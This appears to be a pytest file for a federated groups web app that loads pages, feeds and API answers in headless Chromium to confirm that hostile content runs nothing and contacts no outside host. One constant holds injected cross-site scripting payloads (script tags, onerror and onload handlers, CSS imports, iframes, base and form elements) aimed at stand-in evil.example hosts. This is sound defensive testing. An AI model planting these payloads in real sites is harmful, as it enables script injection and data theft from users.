"""In a real browser: what strangers write runs nothing, asks nobody and stays in its place."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote
from xml.etree.ElementTree import fromstring

import httpx
import pytest

import browser
import doors
from browser import Answer, Site
from clients import signed_in
from doors import KINDS, ORIGIN, Known, addresses, ask
from fedigroups.accounts import invitations, sessions
from fedigroups.accounts.entry_models import Passkey
from fedigroups.accounts.models import Account
from fedigroups.app import make_app
from fedigroups.groups.models import Post
from fedigroups.oauth import apps, tokens
from fedigroups.personal import imports
from fedigroups.personal.import_files import Line
from fedigroups.web import cookies
from guests import OOB, hidden
from poison import NAMES, say_it_all
from trials import Scene
from vectors import vectors
from world import Town

pytestmark = [
    pytest.mark.anyio,
    pytest.mark.timeout(300),  # a browser beside other tests takes its time
    pytest.mark.skipif(
        not browser.PROGRAM, reason="no Chromium here: .ci/browser installs it on Debian"
    ),
    pytest.mark.parametrize("kind", ["sqlite"]),  # a browser does not see the database
]

HOST = "groups.example"


def site_of(town: Town, change: Callable[[Answer], Answer] = lambda answer: answer) -> Site:
    """Our instance, for a browser; `change` is what an attacker managed to do to its answers."""

    async def answer(url: str) -> Answer:
        headers = {"Accept": "text/html,application/xhtml+xml,*/*;q=0.8"}
        request = httpx.Request("GET", url, headers=headers)
        response = await town.network.handle_async_request(request)
        body = await response.aread()
        return change((response.status_code, dict(response.headers), body))

    return answer


def raw(html: str) -> Site:
    """A page that takes HTML as it comes, without any policy."""

    async def answer(_url: str) -> Answer:
        page = f'<!doctype html><meta charset=utf-8><main><div class="prose">{html}</div></main>'
        return 200, {"Content-Type": "text/html"}, page.encode("utf-8", "replace")

    return answer


async def test_a_browser_finds_nothing_to_run_to_ask_or_to_move_on_our_pages(
    scene: Scene, tmp_path: Path
) -> None:
    # H157 to H162, H164, H166, H168: with our policy, and without it, so that each holds alone
    pages = await say_it_all(scene)
    async with browser.opened(HOST, tmp_path / "chromium") as chromium:
        for path in pages:
            for bypass in (False, True):
                visit = await chromium.visit(
                    f"{ORIGIN}{path}", site_of(scene.ours), bypass_policy=bypass
                )
                assert visit.harm == {}, (path, bypass)
                assert visit.landed == f"{ORIGIN}{path}"
            assert await chromium.value("document.querySelectorAll('main h1').length") > 0


async def test_what_a_feed_carries_is_harmless_in_a_reader_that_has_no_policy(
    scene: Scene, tmp_path: Path
) -> None:
    # H162: the feed as a document, and its entries shown by a program that takes them as they come
    pages = await say_it_all(scene)
    feeds = [f"{pages[4]}/feed.atom", "/groups/welders/feed.atom"]
    async with browser.opened(HOST, tmp_path / "chromium") as chromium:
        for path in feeds:
            visit = await chromium.visit(f"{ORIGIN}{path}", site_of(scene.ours))
            assert {key: visit.harm[key] for key in visit.harm if key != "escapes"} == {}
            feed = fromstring((await ask(scene.ours, path, KINDS[0])).content)
            contents = [one.text or "" for one in feed.iter("{http://www.w3.org/2005/Atom}content")]
            assert contents
            visit = await chromium.visit(f"{ORIGIN}/reader", raw("".join(contents)))
            assert {key: visit.harm[key] for key in visit.harm if key != "escapes"} == {}


# Pages of an account, and what apps are told

OWN_PAGES = (
    *("/settings", "/settings/password", "/settings/email", "/settings/sessions"),
    *("/settings/apps", "/settings/preferences", "/settings/invitations", "/settings/second"),
    *("/settings/export", "/settings/close", "/settings/blocks", "/settings/decisions"),
    *("/settings/profile", "/settings/passkeys", "/settings/passkeys/1", "/settings/mail"),
    *("/settings/import", "/settings/move", "/settings/aliases"),
    *("/login", "/signup", "/forgot"),
)
HTML = frozenset({"content", "note", "value", "spoiler_text", "title", "name", "display_name"})
"""What clients take for HTML, and what some of them do."""


async def own_words(town: Town) -> tuple[str, str]:
    """All that stands on the pages of Olga is hostile; her session, and an app's id."""
    account = await Account.get(actor__username="olga").select_related("actor")
    await Account.filter(id=account.id).update(role="admin")
    for name in NAMES:
        made = await apps.register(name, [OOB], ["read"], "https://evil.example/", plain=False)
        await tokens.issue(made.app, ["read"], account.id)
        await sessions.begin(account, agent=name, address=name)
        await invitations.invite(account, note=name)
    await Passkey.bulk_create(
        Passkey(
            id=number,
            account_id=account.id,
            digest=str(number),
            credential=b"",
            public_key=b"",
            name=name[:60],
            created_at=1,
        )
        for number, name in enumerate(NAMES, 1)
    )
    lines = [Line("block", name, left_out=name) for name in NAMES]
    await imports.keep(account.actor_id, lines, overwrites=False)
    return await sessions.begin(account), made.app.client_id


def signed_in_at(town: Town, session: str) -> httpx.AsyncClient:
    """A browser's requests to our instance, by whoever is signed in."""
    headers = {"Accept": "text/html", "Cookie": f"__Host-{cookies.SESSION}={session}"}
    transport = httpx.ASGITransport(make_app(town.instance), raise_app_exceptions=False)
    return httpx.AsyncClient(transport=transport, base_url=ORIGIN, headers=headers)


def fetched(client: httpx.AsyncClient) -> Site:
    async def answer(url: str) -> Answer:
        said = await client.get(url)
        return said.status_code, dict(said.headers), said.content

    return answer


def again(said: httpx.Response, client: httpx.AsyncClient) -> Site:
    """What a form was answered, at any address but those of files."""

    async def answer(url: str) -> Answer:
        if "/static/" in url:
            return await fetched(client)(url)
        return said.status_code, dict(said.headers), said.content

    return answer


async def test_a_browser_finds_nothing_on_the_pages_of_an_account(
    scene: Scene, tmp_path: Path
) -> None:
    # H160, H162, H169, H219: names of apps, browsers and invitations, and what forms say again
    session, app = await scene.ours.run(lambda: own_words(scene.ours))
    evil = "/login?again=1&next=" + quote(NAMES[0])
    consent = f"/oauth/authorize?response_type=code&client_id={app}&redirect_uri={OOB}&scope=read"
    routes = {route.path for route in doors.routes(make_app(scene.ours.instance))}
    own = {path.replace("{id:int}", "1") for path in routes if path.startswith("/settings")}
    assert own <= {*OWN_PAGES, "/settings/import/failures.csv"}  # which is a file to take along
    async with (
        browser.opened(HOST, tmp_path / "chromium") as chromium,
        signed_in_at(scene.ours, session) as client,
    ):
        shown = [(path, fetched(client)) for path in (*OWN_PAGES, evil, consent)]
        for path in ("/login", "/signup", "/settings/invitations", "/settings/email"):
            form = hidden(await client.get(f"{path}?again=1"))
            words = ("name", "email", "reason", "invitation", "note", "password", "current", "next")
            said = await client.post(path, data=dict.fromkeys(words, NAMES[0]) | form)
            assert said.status_code in {200, 401, 403, 422}, said.text
            shown.append((f"{path}?posted=1", again(said, client)))
        for path, site in shown:
            visit = await chromium.visit(f"{ORIGIN}{path}", site, bypass_policy=True)
            assert visit.harm == {}, path


def texts(said: Any, name: str = "") -> Iterator[str]:
    """What of an answer a client may show as HTML."""
    if isinstance(said, str) and name in HTML:
        yield said
    if isinstance(said, list):
        for part in said:
            yield from texts(part, name)
    if isinstance(said, dict):
        for key, part in said.items():
            yield from texts(part, key)


async def test_what_apps_are_told_is_harmless_where_it_is_shown(
    scene: Scene, tmp_path: Path
) -> None:
    # H157 to H162: each answer as a document, and its HTML in an app that takes it as it comes
    await say_it_all(scene)
    posts = await scene.ours.run(lambda: Post.all().order_by("id"))
    people = {post.author_id for post in posts}
    known = Known(accounts=tuple(people), posts=(posts[0].id, posts[-1].id))
    shown, html = set[str](), set[str]()
    async with (
        browser.opened(HOST, tmp_path / "chromium") as chromium,
        signed_in(scene.ours, "tom") as app,
    ):
        for path in addresses(make_app(scene.ours.instance), known):
            if path.startswith("/api/") and "/streaming/" not in path:  # those have no end
                said = await app.http.get(path)
                assert said.headers["content-type"].startswith(("application/json", "image/"))
                assert said.headers["x-content-type-options"] == "nosniff"
                if said.headers["content-type"].startswith("application/json"):
                    html |= set(texts(said.json()))
                    shown.add(path)
        for path in sorted(one for one in shown if "context" in one or "search" in one):
            visit = await chromium.visit(f"{ORIGIN}{path}", fetched(app.http), widths=(360,))
            assert {key: visit.harm[key] for key in visit.harm if key != "escapes"} == {}, path
        assert len(html) > len(vectors())
        plain = [text for text in html if "<p>" in text]
        visit = await chromium.visit(f"{ORIGIN}/app", raw("".join(sorted(plain))))
        assert {key: visit.harm[key] for key in visit.harm if key != "escapes"} == {}


# Whether the policy alone holds, and whether harm would be seen


INJECTED = b"""<script>pwned('v1')</script><img src=https://v2.evil.example/ onerror="pwned('v2')">
<style>@import 'https://v3.evil.example/'; p { background: url(https://v4.evil.example/) }</style>
<script src=https://v5.evil.example/></script><script src=/static/x></script>
<link rel=stylesheet href=https://v6.evil.example/><iframe src=https://v7.evil.example/></iframe>
<object data=https://v8.evil.example/></object><p style="background:url(https://v9.evil.example/)">
<svg onload="pwned('v10')"></svg><base href=https://v11.evil.example/><a id=go href=x>x</a>
<form action=https://v12.evil.example/ id=f><button id=send>x</button></form>"""


def injected(answer: Answer) -> Answer:
    status, headers, body = answer
    headers.pop("content-length", None)
    return status, headers, body.replace(b"</main>", INJECTED + b"</main>")


def without_policy(answer: Answer) -> Answer:
    status, headers, body = injected(answer)
    return status, {k: v for k, v in headers.items() if k != "content-security-policy"}, body


async def test_our_policy_stops_what_somebody_gets_into_a_page(
    scene: Scene, tmp_path: Path
) -> None:
    # H169: as if the sanitiser or a template had a hole
    await scene.post()
    async with browser.opened(HOST, tmp_path / "chromium") as chromium:
        for path in ("/", "/groups/welders", "/nowhere"):
            visit = await chromium.visit(f"{ORIGIN}{path}", site_of(scene.ours, injected))
            assert await chromium.value("document.getElementById('go') !== null")
            # for a frame a browser connects before it reads the policy; it asks nothing then
            asked = [one for one in visit.asked if not one.startswith("CONNECT ")]
            assert (visit.ran, asked, visit.opened) == ([], [], []), path
            leads = await chromium.value("document.getElementById('go').href")
            assert leads.startswith(ORIGIN)
        visit = await chromium.visit(f"{ORIGIN}/", site_of(scene.ours, without_policy))
        assert {f"v{number}" for number in (1, 2, 10)} <= set(visit.ran)
        asked = " ".join(visit.asked)
        assert all(f"v{number}.evil.example" in asked for number in (2, 3, 5, 6, 7, 8, 9))


async def test_the_browser_sees_the_harm_that_it_looks_for(scene: Scene, tmp_path: Path) -> None:
    """Otherwise the tests above would prove nothing: raw, the vectors do what they are for."""
    did: dict[str, set[str]] = {}
    async with browser.opened(HOST, tmp_path / "chromium") as chromium:
        for name, html in vectors().items():
            visit = await chromium.visit(f"{ORIGIN}/raw", raw(html), widths=(360,))
            did[name] = set(visit.harm)
    assert sum("ran" in harm for harm in did.values()) > 20
    assert sum("asked" in harm for harm in did.values()) > 20
    assert sum("escapes" in harm for harm in did.values()) > 20
    assert did["fixed"] >= {"asked", "escapes"}
